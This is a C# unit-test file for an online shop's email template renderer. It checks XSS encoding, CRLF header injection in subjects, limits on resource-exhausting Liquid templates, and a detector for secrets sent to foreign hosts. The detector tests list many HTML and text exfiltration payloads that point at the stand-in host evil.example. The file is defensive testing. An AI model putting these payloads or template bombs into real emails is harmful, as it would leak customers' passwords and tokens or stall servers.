using Commerce.Customers.Notifications;

namespace Commerce.Customers.Tests.Unit;

public sealed class EmailRendererTests
{
    private static readonly EmailRenderer Renderer = new();

    private static EmailModel Model(string firstName = "Frank") => new()
    {
        Customer = new EmailCustomer { FirstName = firstName, LastName = "Martin Jr.", Company = "The Transporter", Email = "frank@martin.com" },
        UserName = "frank@martin.com",
        Password = "Pa55-word<&>",
        Site = new EmailSite { Name = "Demo shop", BaseUrl = "https://shop.example" },
        SignInUrl = "https://shop.example/admin/login",
    };

    private static EmailTemplateSource Default(string name)
    {
        var definition = EmailTemplateDefinitions.Find(name)!;
        return new EmailTemplateSource(name, definition.Subject, definition.HtmlBody, definition.TextBody, false);
    }

    [Fact]
    public async Task Login_created_shows_the_user_name_password_and_sign_in_address()
    {
        var email = await Renderer.RenderAsync(Default(EmailTemplateDefinitions.LoginCreated), Model());

        Assert.Equal("Your account at Demo shop", email.Subject);
        Assert.Contains("User name: frank@martin.com", email.TextBody, StringComparison.Ordinal);
        Assert.Contains("Password: Pa55-word<&>", email.TextBody, StringComparison.Ordinal);
        Assert.Contains("Dear Frank Martin Jr.,", email.TextBody, StringComparison.Ordinal);
        Assert.Contains("<strong>Pa55-word&lt;&amp;&gt;</strong>", email.HtmlBody, StringComparison.Ordinal);
        Assert.Contains("href=\"https://shop.example/admin/login\"", email.HtmlBody, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Markup_in_a_customers_name_is_encoded_in_the_html_body()
    {
        var email = await Renderer.RenderAsync(Default(EmailTemplateDefinitions.PasswordChangedNotice), Model("<script>alert(1)</script>"));

        Assert.DoesNotContain("<script>", email.HtmlBody, StringComparison.Ordinal);
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", email.HtmlBody, StringComparison.Ordinal);
        Assert.DoesNotContain("Pa55", email.HtmlBody + email.TextBody, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_subject_cannot_carry_line_breaks_into_the_headers()
    {
        var source = new EmailTemplateSource("x", "Hello {{ customer.first_name }}", "<p>x</p>", "x", true);

        var email = await Renderer.RenderAsync(source, Model("Eve\r\nBcc: victim@example.com"));

        Assert.Equal("Hello Eve Bcc: victim@example.com", email.Subject);
    }

    [Fact]
    public async Task A_company_stands_in_when_the_customer_has_no_name()
    {
        var model = Model();
        model.Customer.FirstName = null;
        model.Customer.LastName = null;

        var email = await Renderer.RenderAsync(Default(EmailTemplateDefinitions.PasswordChanged), model);

        Assert.StartsWith("Dear The Transporter,", email.TextBody.TrimStart(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("{% if user_name %}no end")]
    [InlineData("{{ user_name ")]
    public void Syntax_errors_are_reported_with_the_parsers_message(string source)
    {
        Assert.False(EmailRenderer.TryParse(source, out var error));
        Assert.False(string.IsNullOrWhiteSpace(error));
    }

    [Fact]
    public void Every_shipped_template_parses()
    {
        foreach (var definition in EmailTemplateDefinitions.All)
        {
            Assert.True(EmailRenderer.TryParse(definition.Subject, out _), definition.Name);
            Assert.True(EmailRenderer.TryParse(definition.HtmlBody, out _), definition.Name);
            Assert.True(EmailRenderer.TryParse(definition.TextBody, out _), definition.Name);
        }
    }

    private static EmailTemplateSource Text(string textBody) => new("Test", "Subject", "<p>x</p>", textBody, true);

    private static async Task<(EmailTemplateProblem Problem, TimeSpan Elapsed)> RefusalAsync(string textBody, EmailRenderer? renderer = null)
    {
        var clock = System.Diagnostics.Stopwatch.StartNew();
        var refused = await Assert.ThrowsAsync<EmailTemplateRefusedException>(() => (renderer ?? Renderer).RenderAsync(Text(textBody), Model()));
        return (refused.Problem, clock.Elapsed);
    }

    [Fact]
    public async Task Nested_loops_of_4000_by_4000_stop_at_the_step_limit_at_once()
    {
        var (problem, elapsed) = await RefusalAsync("{% for i in (1..4000) %}{% for j in (1..4000) %}x{% endfor %}{% endfor %}");

        Assert.Equal(EmailTemplateProblem.TooManySteps, problem);
        Assert.True(elapsed < TimeSpan.FromSeconds(2), $"Took {elapsed}.");
    }

    [Theory]
    [InlineData("{% assign s = 'xxxxxxxxxxxxxxxx' %}{% for i in (1..24) %}{% assign s = s | append: s %}{% endfor %}{{ s | size }}")]
    [InlineData("{% capture s %}{% for i in (1..9000) %}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx{% endfor %}{% endcapture %}")]
    [InlineData("{% for i in (1..9000) %}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx{% endfor %}")]
    [InlineData("{% assign s = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' | append: 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' %}{% assign t = s | replace: 'a', s %}{% assign u = t | replace: 'a', t %}")]
    public async Task Growing_strings_and_output_stop_at_the_character_limit(string template)
    {
        var (problem, elapsed) = await RefusalAsync(template);

        Assert.Equal(EmailTemplateProblem.TooManyCharacters, problem);
        Assert.True(elapsed < TimeSpan.FromSeconds(2), $"Took {elapsed}.");
    }

    [Fact]
    public async Task A_list_of_shared_long_strings_is_refused_before_it_is_joined()
    {
        var renderer = new EmailRenderer(new EmailRenderLimits { MaxCharacters = 10_000, MaxItems = 10_000 });
        var template = "{% assign s = '" + new string('x', 4000) + ",y' | split: ',' %}{% for i in (1..12) %}{% assign s = s | concat: s %}{% endfor %}{{ s | join: '' | size }}";

        var (problem, _) = await RefusalAsync(template, renderer);

        Assert.True(problem is EmailTemplateProblem.TooManyCharacters or EmailTemplateProblem.TooManyItems, problem.ToString());
    }

    [Fact]
    public async Task A_huge_range_is_refused_before_it_is_allocated()
    {
        var (problem, elapsed) = await RefusalAsync("{% for i in (1..2000000000) %}{% break %}{% endfor %}");

        Assert.Equal(EmailTemplateProblem.TooManyItems, problem);
        Assert.True(elapsed < TimeSpan.FromSeconds(2), $"Took {elapsed}.");
    }

    [Theory]
    [InlineData("{% include 'x' %}")]
    [InlineData("{% render 'x' %}")]
    public async Task Include_and_render_are_refused(string template)
    {
        Assert.Equal(EmailTemplateProblem.IncludeNotAvailable, (await RefusalAsync(template)).Problem);
    }

    [Fact]
    public async Task The_time_limit_stops_a_render()
    {
        var renderer = new EmailRenderer(new EmailRenderLimits { Timeout = TimeSpan.FromTicks(1) });
        await Task.Delay(1);

        Assert.Equal(EmailTemplateProblem.TooSlow, (await RefusalAsync("{% for i in (1..100) %}{{ i }}{% endfor %}", renderer)).Problem);
    }

    [Fact]
    public async Task A_template_within_the_bounds_still_renders()
    {
        var email = await Renderer.RenderAsync(Text("{% for i in (1..3) %}{{ i }}{% endfor %}{% capture c %}{{ user_name | upcase }}{% endcapture %} {{ c }}"), Model());

        Assert.Equal("123 FRANK@MARTIN.COM", email.TextBody);
    }

    [Theory]
    [InlineData("<img src=\"https://evil.example/p.gif?l=SECRET\">", "evil.example")]
    [InlineData("<a href=\"//evil.example/?l=SECRET\">x</a>", "evil.example")]
    [InlineData("<a href=\"https:\\\\evil.example/?l=SECRET\">x</a>", "evil.example")]
    [InlineData("<a href=\"https://shop.example@evil.example/?l=SECRET\">x</a>", "evil.example")]
    [InlineData("<a href=\"htt&#x70;s://evil.example/?l=SECRET\">x</a>", "evil.example")]
    [InlineData("<a href=\" https://evil.example/?l=SE\tCRET\">x</a>", "evil.example")]
    [InlineData("<a href=\"https://shop.example/redirect?to=https://evil.example/SECRET\">x</a>", "evil.example")]
    [InlineData("<a href=\"mailto:eve@evil.example?body=SECRET\">x</a>", "mailto:")]
    [InlineData("<a href=\"https://shop.example:8443/?SECRET\">x</a>", "shop.example")]
    [InlineData("<base href=\"https://evil.example/\"><a href=\"?l=SECRET\">x</a>", "evil.example")]
    [InlineData("<form action=\"https://evil.example/\"><input name=\"l\" value=\"SECRET\"></form>", "evil.example")]
    [InlineData("<a href=\"https://shop.example/?SECRET\" ping=\"https://evil.example/\">x</a>", "evil.example")]
    [InlineData("<p style=\"background:url(https://evil.example/SECRET)\">x</p>", "evil.example")]
    [InlineData("<style>p{background:url(https\\3a //evil.example/SECRET)}</style>", "evil.example")]
    [InlineData("<p>Visit evil.example/reset?SECRET</p>", "evil.example")]
    [InlineData("<!--[if mso]><img src=https://evil.example/?SECRET><![endif]-->", "evil.example")]
    [InlineData("<template><img src=\"https://evil.example/?SECRET\"></template>", "evil.example")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?SECRET\">", "evil.example")]
    [InlineData("<img src=\"data:image/svg+xml,&lt;svg&gt;&lt;image href='https://evil.example/?SECRET'/&gt;&lt;/svg&gt;\">", "data:")]
    public void Html_that_carries_the_secret_to_another_host_is_found(string html, string host)
    {
        Assert.Equal(host, SecretPlacement.ForeignHostInHtml(html, "SECRET", "https://shop.example/store"));
    }

    [Theory]
    [InlineData("<a href=\"https://shop.example/store/account/set-password#token=SECRET\">Choose</a>")]
    [InlineData("<a href=\"/account/set-password#token=SECRET\">Choose</a>")]
    [InlineData("<p>Your password: <strong>SECRET</strong></p><img src=\"https://cdn.example/logo.png\">")]
    [InlineData("<p>https://SHOP.example:443/x?SECRET</p>")]
    [InlineData("<table><tr><td>https://cdn.example/x</td><td>Password:</td><td>SECRET</td></tr></table>")]
    public void Html_that_keeps_the_secret_on_the_site_passes(string html)
    {
        Assert.Null(SecretPlacement.ForeignHostInHtml(html, "SECRET", "https://shop.example/store"));
    }

    [Theory]
    [InlineData("Reset: https://evil.example/?l=SECRET", "evil.example")]
    [InlineData("Reset: evil.example/?l=SECRET", "evil.example")]
    [InlineData("Reset: //evil.example/?l=SECRET", "evil.example")]
    [InlineData("Password: SECRET\nSign in at https://shop.example/account/login", null)]
    [InlineData("Reset: https://shop.example/account/set-password#token=SECRET", null)]
    [InlineData("Password:SECRET", null)]
    [InlineData("Write to mailto:eve@evil.example?body=SECRET", "mailto:")]
    public void Text_that_carries_the_secret_to_another_host_is_found(string text, string? host)
    {
        Assert.Equal(host, SecretPlacement.ForeignHostInText(text, "SECRET", "https://shop.example"));
    }
}
